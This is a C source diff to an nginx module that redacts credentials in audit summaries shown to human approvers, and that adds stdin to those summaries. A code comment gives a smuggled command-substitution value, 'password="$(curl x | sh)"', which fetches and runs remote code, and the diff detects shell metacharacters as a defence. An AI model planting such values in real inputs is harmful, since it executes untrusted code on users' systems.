@@ -86,6 +86,18 @@ ngx_http_veto_sandbox_match_ci(u_char *p, u_char *last, const char *word)
 }
 
 
+/* "Bearer " or "Basic " at p: its length, else 0 */
+static size_t
+ngx_http_veto_sandbox_scheme(u_char *p, u_char *last)
+{
+    size_t  n;
+
+    n = ngx_http_veto_sandbox_match_ci(p, last, "bearer ");
+
+    return n ? n : ngx_http_veto_sandbox_match_ci(p, last, "basic ");
+}
+
+
 static ngx_uint_t
 ngx_http_veto_sandbox_secret_key(u_char *p, size_t len)
 {
@@ -116,6 +128,34 @@ ngx_http_veto_sandbox_secret_key(u_char *p, size_t len)
     (ngx_http_veto_sandbox_b64url(c) || (c) == '.')
 
 
+/*
+ * Writes "[redacted]" for the value s..last, unless it could run
+ * something: the same text is the approval summary a human decides on,
+ * and "password=\"$(curl x | sh)\"" in an argv must be seen, not hidden.
+ * Errs on showing a password that contains shell syntax.
+ */
+static u_char *
+ngx_http_veto_sandbox_hide(u_char *d, u_char *s, u_char *last)
+{
+    u_char  *p;
+
+    if (s == last) {
+        return d;
+    }
+
+    for (p = s; p < last; p++) {
+        switch (*p) {
+        case '$': case '`': case '(': case ')': case '|': case ';':
+        case '&': case '<': case '>': case '\n': case '{': case '}':
+            return ngx_cpymem(d, s, last - s);
+        }
+    }
+
+    return ngx_cpymem(d, NGX_HTTP_VETO_SANDBOX_REDACTED,
+                      sizeof(NGX_HTTP_VETO_SANDBOX_REDACTED) - 1);
+}
+
+
 ngx_int_t
 ngx_http_veto_sandbox_audit_redact(ngx_pool_t *pool, ngx_str_t *in,
     ngx_str_t *out)
@@ -144,10 +184,7 @@ ngx_http_veto_sandbox_audit_redact(ngx_pool_t *pool, ngx_str_t *in,
 
         /* Bearer <token>, Basic <credentials> */
 
-        n = ngx_http_veto_sandbox_match_ci(p, last, "bearer ");
-        if (n == 0) {
-            n = ngx_http_veto_sandbox_match_ci(p, last, "basic ");
-        }
+        n = ngx_http_veto_sandbox_scheme(p, last);
 
         if (n) {
             d = ngx_cpymem(d, p, n);
@@ -164,10 +201,7 @@ ngx_http_veto_sandbox_audit_redact(ngx_pool_t *pool, ngx_str_t *in,
                 p++;
             }
 
-            if (p > s) {
-                d = ngx_cpymem(d, NGX_HTTP_VETO_SANDBOX_REDACTED,
-                               sizeof(NGX_HTTP_VETO_SANDBOX_REDACTED) - 1);
-            }
+            d = ngx_http_veto_sandbox_hide(d, s, p);
 
             continue;
         }
@@ -243,10 +277,7 @@ ngx_http_veto_sandbox_audit_redact(ngx_pool_t *pool, ngx_str_t *in,
 
             } else {
                 /* "Authorization: Bearer x": keep the scheme, hide x */
-                n = ngx_http_veto_sandbox_match_ci(p, last, "bearer ");
-                if (n == 0) {
-                    n = ngx_http_veto_sandbox_match_ci(p, last, "basic ");
-                }
+                n = ngx_http_veto_sandbox_scheme(p, last);
 
                 if (n) {
                     d = ngx_cpymem(d, p, n);
@@ -263,10 +294,7 @@ ngx_http_veto_sandbox_audit_redact(ngx_pool_t *pool, ngx_str_t *in,
                 }
             }
 
-            if (p > s) {
-                d = ngx_cpymem(d, NGX_HTTP_VETO_SANDBOX_REDACTED,
-                               sizeof(NGX_HTTP_VETO_SANDBOX_REDACTED) - 1);
-            }
+            d = ngx_http_veto_sandbox_hide(d, s, p);
 
             continue;
         }
@@ -364,10 +392,49 @@ ngx_http_veto_sandbox_redacted_copy(ngx_pool_t *pool, json_t *v,
 }
 
 
+/* stdin_bytes, and its head as text when it is UTF-8 ("stdin") */
+static ngx_int_t
+ngx_http_veto_sandbox_summary_stdin(ngx_pool_t *pool, json_t *sum,
+    ngx_str_t *in)
+{
+    size_t   len, i;
+    json_t  *v;
+
+    if (json_object_set_new(sum, "stdin_bytes", json_integer(in->len)) != 0)
+    {
+        return NGX_ERROR;
+    }
+
+    len = ngx_min(in->len, 4096);
+
+    /* a cut inside a UTF-8 sequence: back off to its start */
+    for (i = 0; len < in->len && i < 3 && (in->data[len] & 0xc0) == 0x80;
+         i++)
+    {
+        len--;
+    }
+
+    v = ngx_http_veto_sandbox_redacted_string(pool, (const char *) in->data,
+                                              len);
+    if (v == NULL) {
+        return NGX_OK;          /* not text: the size says enough */
+    }
+
+    if (json_object_set_new(sum, "stdin", v) != 0
+        || (len < in->len
+            && json_object_set_new(sum, "stdin_truncated", json_true()) != 0))
+    {
+        return NGX_ERROR;
+    }
+
+    return NGX_OK;
+}
+
+
 ngx_int_t
 ngx_http_veto_sandbox_audit_summary(ngx_pool_t *pool, ngx_str_t *action,
-    json_t *body, ngx_str_t *path, off_t size, ngx_str_t *sha256,
-    ngx_str_t *out)
+    json_t *body, ngx_str_t *in, ngx_str_t *path, off_t size,
+    ngx_str_t *sha256, ngx_str_t *out)
 {
     char         *text;
     size_t        i, len;
@@ -449,6 +516,12 @@ ngx_http_veto_sandbox_audit_summary(ngx_pool_t *pool, ngx_str_t *action,
                 goto done;
             }
         }
+    }
+
+    if (in && in->len
+        && ngx_http_veto_sandbox_summary_stdin(pool, sum, in) != NGX_OK)
+    {
+        goto done;
     }
 
     if (path && path->len) {
